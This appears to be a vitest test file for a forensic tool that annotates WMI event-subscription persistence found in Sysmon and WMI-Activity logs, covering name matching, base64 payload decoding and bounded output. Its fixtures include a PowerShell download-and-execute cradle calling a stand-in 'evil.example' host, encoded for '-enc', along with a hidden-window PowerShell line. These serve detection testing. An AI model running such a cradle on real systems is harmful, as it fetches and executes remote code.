import { describe, expect, test } from 'vitest';
import { decodedPayloads } from '../../src/findings/wmi/payloads.ts';
import { referencedNames, unquoted } from '../../src/findings/wmi/wmi-names.ts';
import { wmiNotes } from '../../src/findings/wmi/wmi-notes.ts';
import type { EventSnapshot } from '../../src/model/event.ts';
import { snapshot } from './support.ts';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const sysmon = (seconds: number, eventId: number, data: Record<string, string>): EventSnapshot =>
  snapshot(seconds, { index: seconds, channel: SYSMON, eventId, data: { Operation: 'Created', ...data } });

const binding = sysmon(3, 21, {
  Consumer: ' "ActiveScriptEventConsumer.Name=\\"Cons\\""',
  Filter: ' "\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\"Filt\\""',
});

describe('notes on a WMI subscription', () => {
  test('say that the names differ, when filter and consumer are those of another one', () => {
    const filter = sysmon(1, 19, { Name: ' "Filt"', Query: ' "select *"', EventNamespace: ' "root\\\\cimv2"' });
    const consumer = sysmon(2, 20, { Name: ' "Elsewhere"', Type: 'Script', Destination: ' "x"' });
    expect(wmiNotes([filter, consumer, binding], [])).toEqual([
      'binding ties filter "Filt" to consumer "Cons"',
      'names agree: filter "Filt" was registered within the window',
      'names differ: the binding names consumer "Cons", registered within the window: "Elsewhere"',
      'filter "Filt" waits for: select * (in root\\cimv2)',
      'consumer "Elsewhere" (Script) runs: x',
    ]);
  });

  test('do not claim what a record without a name cannot show', () => {
    expect(wmiNotes([binding, sysmon(2, 20, {})], [])).toEqual([
      'binding ties filter "Filt" to consumer "Cons"',
      'filter "Filt" was not registered within the window',
      'not checked: a consumer was registered within the window, but its record does not give the name',
    ]);
  });

  test('do not claim that something is missing where nobody has looked', () => {
    expect(wmiNotes([binding], null)).toEqual(['binding ties filter "Filt" to consumer "Cons"']);
    const filter = sysmon(1, 19, { Name: ' "Filt"' });
    expect(wmiNotes([filter, binding], null)).toEqual([
      'binding ties filter "Filt" to consumer "Cons"',
      'names agree: filter "Filt" was registered within the window',
    ]);
  });

  test('decode what a consumer hides in base64', () => {
    const script = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a")';
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    const consumer = sysmon(2, 20, { Name: ' "Cons"', Type: 'Command Line', Destination: ` "powershell -enc ${encoded}"` });
    expect(wmiNotes([consumer], [])).toEqual([
      `consumer "Cons" (Command Line) runs: powershell -enc ${encoded}`,
      `consumer "Cons" holds base64 of: ${script}`,
    ]);
  });

  test('read the definition that the WMI service logs', () => {
    const native = snapshot(1, {
      channel: 'Microsoft-Windows-WMI-Activity/Operational',
      eventId: 5861,
      data: { CONSUMER: 'CommandLineEventConsumer="Evil"', ESS: 'Evil filter', PossibleCause: 'Binding EventFilter: ...' },
    });
    expect(wmiNotes([native], [])).toEqual(['WMI service bound consumer CommandLineEventConsumer="Evil" to filter Evil filter']);
  });

  test('are not made for other events, and are bounded for hostile ones', () => {
    expect(wmiNotes([snapshot(1, { channel: 'Security', eventId: 4688 })], [])).toEqual([]);
    const many = Array.from({ length: 200 }, (_, i) => sysmon(i, 19, { Name: ` "F${i}"`, Query: ` "${'q'.repeat(100_000)}"` }));
    const notes = wmiNotes(many, []);
    expect(notes.length).toBe(24);
    expect(Math.max(...notes.map(({ length }) => length))).toBeLessThan(1200);
  });
});

test('names are found in references, in MOF text and in native events', () => {
  expect(referencedNames('"CommandLineEventConsumer.Name=\\"Bot 1\\""')).toEqual(['Bot 1']);
  expect(referencedNames('CommandLineEventConsumer="Evil Persistence"')).toEqual(['Evil Persistence']);
  expect(referencedNames('instance of __EventFilter { Name = "A\\\\b"; Query = "x"; }; Name="c"')).toEqual(['A\\b', 'c']);
  expect(referencedNames('Name="never closed')).toEqual([]);
});

test('quoted values lose quotes and escapes, others stay as they are', () => {
  expect(unquoted(' "c:\\\\Windows\\\\cmd.exe"')).toBe('c:\\Windows\\cmd.exe');
  expect(unquoted(' "a\\r\\nb\\"c\\""')).toBe('a\r\nb"c"');
  expect(unquoted('c:\\new')).toBe('c:\\new');
});

test('only base64 of readable text is decoded', () => {
  const text = 'powershell.exe -nop -w hidden -c calc; exit 0';
  expect(decodedPayloads(`x ${Buffer.from(text).toString('base64')} y`)).toEqual([text]);
  expect(decodedPayloads('C:\\Windows\\System32\\'.repeat(5))).toEqual([]);
  expect(decodedPayloads('ECA93AAAA5039E12D2F0CC3F0C8F5AF8FDB15C71E11683E4A1E88666DD5E0331')).toEqual([]);
});
